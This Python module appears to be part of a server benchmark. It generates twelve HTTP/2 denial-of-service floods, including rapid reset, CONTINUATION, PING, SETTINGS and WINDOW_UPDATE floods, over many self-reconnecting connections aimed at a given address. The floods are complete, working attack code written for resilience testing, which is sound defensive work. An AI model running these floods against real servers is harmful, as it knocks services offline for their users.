"""Floods of HTTP/2 frames, each of which costs its sender a few bytes and makes the other side work or remember.

What a newcomer would get wrong: that a flood is over when its connection is cut. An attacker connects anew at once, so
each connection here does; and that an attacker reads what comes: who does not makes the other side keep its answers.
"""

from __future__ import annotations

import select
import socket
import struct
import time
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from multiprocessing.connection import Connection as Pipe

import http2

from bench import PASSED

CONNECTIONS = 8

OPENING = http2.PREFACE + http2.frame(http2.SETTINGS, 0, 0, b"")

WINDOW_UPDATE = 8

PIECE = 64 * 1024
"""What is sent at a time."""

PAIRS = 5_000
"""Requests that are taken back on one connection: none lives to see as many."""


def _request(method: str, stream: int, ends: bool = True) -> bytes:
    pseudo = ((":method", method), (":scheme", "http"), (":path", PASSED), (":authority", "flood"))
    return http2.headers(pseudo, ends, stream)


@cache
def _resets() -> bytes:
    """Requests, each taken back at once."""
    cancel = struct.pack(">I", 8)
    return b"".join(
        _request("GET", stream) + http2.frame(http2.RST_STREAM, 0, stream, cancel) for stream in range(1, 2 * PAIRS, 2)
    )


def _begun_head() -> bytes:
    pseudo = ((":method", "GET"), (":scheme", "http"), (":path", PASSED), (":authority", "flood"))
    return http2.frame(http2.HEADERS, http2.END_STREAM, 1, http2.block(pseudo))


def _unended() -> bytes:
    """As many requests as there may be at once, none of which ends, each with some content."""
    streams = range(1, 200, 2)
    heads = b"".join(_request("POST", stream, ends=False) for stream in streams)
    return heads + b"".join(http2.data(b"x" * 600, ends=False, stream=stream) for stream in streams)


@dataclass(frozen=True)
class Flood:
    """What is sent on each connection: something once, then something for ever."""

    name: str
    once: Callable[[], bytes]
    ever: bytes = b""
    reads: bool = True
    connections: int = CONNECTIONS


FIELD = http2.block((("x-more", "y" * 1000),))

ALL = (
    Flood("rapid reset", _resets),
    Flood("CONTINUATIONs of 16 KB", _begun_head, http2.frame(http2.CONTINUATION, 0, 1, FIELD * 16)),
    Flood("empty CONTINUATIONs", _begun_head, http2.frame(http2.CONTINUATION, 0, 1, b"")),
    Flood("SETTINGS", bytes, http2.frame(http2.SETTINGS, 0, 0, struct.pack(">HI", 4, 65535))),
    Flood("SETTINGS, and the answers are not read", bytes, http2.frame(http2.SETTINGS, 0, 0, b""), reads=False),
    Flood("PINGs", bytes, http2.frame(http2.PING, 0, 0, bytes(8))),
    Flood("PINGs, and the answers are not read", bytes, http2.frame(http2.PING, 0, 0, bytes(8)), reads=False),
    Flood("empty DATA", lambda: _request("POST", 1, ends=False), http2.frame(http2.DATA, 0, 1, b"")),
    Flood("WINDOW_UPDATEs of zero", bytes, http2.frame(WINDOW_UPDATE, 0, 0, bytes(4))),
    Flood("WINDOW_UPDATEs beyond the largest", bytes, http2.frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1))),
    Flood("WINDOW_UPDATEs of one", lambda: _request("GET", 1), http2.frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))),
    Flood("requests that never end", _unended, connections=40),
)


@dataclass
class Told:
    """What a flood came to."""

    connections: int = 0
    sent: int = 0
    seconds: float = 0.0


class Sender:
    """One connection after another."""

    def __init__(self, flood: Flood, address: tuple[str, int], told: Told, poll: select.epoll) -> None:
        self.flood, self.address, self.told, self.poll = flood, address, told, poll
        self.piece = memoryview(flood.ever * (PIECE // len(flood.ever)) if flood.ever else b"")
        self.connect()

    def connect(self) -> None:
        """Begins anew."""
        self.told.connections += 1
        self.socket = socket.create_connection(self.address, timeout=5)
        self.socket.setblocking(False)
        self.left = memoryview(OPENING + self.flood.once())
        self.poll.register(self.socket, self._events())

    def _events(self) -> int:
        # A client that has said all waits for the end.
        return (select.EPOLLIN if self.flood.reads else 0) | (select.EPOLLOUT if self.left else 0)

    def move(self, events: int) -> None:
        """Sends and reads what can be."""
        try:
            if events & (select.EPOLLIN | select.EPOLLHUP | select.EPOLLERR) and not self.socket.recv(1 << 18):
                raise ConnectionError
            if events & select.EPOLLOUT and self.left:
                sent = self.socket.send(self.left)
                self.told.sent += sent
                self.left = self.left[sent:] or self.piece
                if not self.left:
                    self.poll.modify(self.socket, self._events())
        except BlockingIOError:
            return
        except OSError:
            self.poll.unregister(self.socket)
            self.socket.close()
            self.connect()


def send(pipe: Pipe, number: int, address: tuple[str, int], least: float, most: float) -> None:
    """Sends a flood for so long at least, and until it is told that it was enough, leaves, and tells what it came to."""
    flood, told, poll = ALL[number], Told(), select.epoll()
    senders = [Sender(flood, address, told, poll) for _ in range(flood.connections)]
    began, is_enough = time.monotonic(), False
    while (told.seconds < least or not is_enough) and told.seconds < most:
        is_enough = is_enough or pipe.poll()
        by_number = {sender.socket.fileno(): sender for sender in senders}
        for descriptor, events in poll.poll(0.1):
            if descriptor in by_number:
                by_number[descriptor].move(events)
        told.seconds = time.monotonic() - began
    for sender in senders:
        sender.socket.close()
    pipe.send(told)
